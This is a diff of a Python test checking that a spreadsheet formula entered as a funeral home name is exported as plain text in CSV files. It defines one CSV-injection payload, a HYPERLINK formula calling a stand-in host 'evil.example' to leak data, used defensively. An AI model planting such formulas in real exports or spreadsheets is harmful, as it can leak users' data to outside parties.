@@ -9,14 +9,14 @@ import io
 
 import pytest
 
-from tests.plugins.funeral.support import clock, person_number, roster, waiver
+from tests.plugins.funeral.support import person_number, roster, waiver
 
 pytestmark = pytest.mark.db
 EVIL = '=HYPERLINK("http://evil.example/?leak","点击查看")'
 
 
-async def test_a_formula_as_funeral_home_is_text_in_every_csv(client, clerk, reviewer):
-    await clock(dt.date(2026, 2, 10))
+async def test_a_formula_as_funeral_home_is_text_in_every_csv(client, clerk, reviewer, set_today):
+    await set_today(dt.date(2026, 2, 10))
     number = person_number(dt.date(1940, 1, 1), seq=41)
     await roster((number, "逝者", "dibao", dt.date(2020, 1, 1), None))
     body = waiver(number, dt.date(2026, 2, 8), name="逝者", home=EVIL)
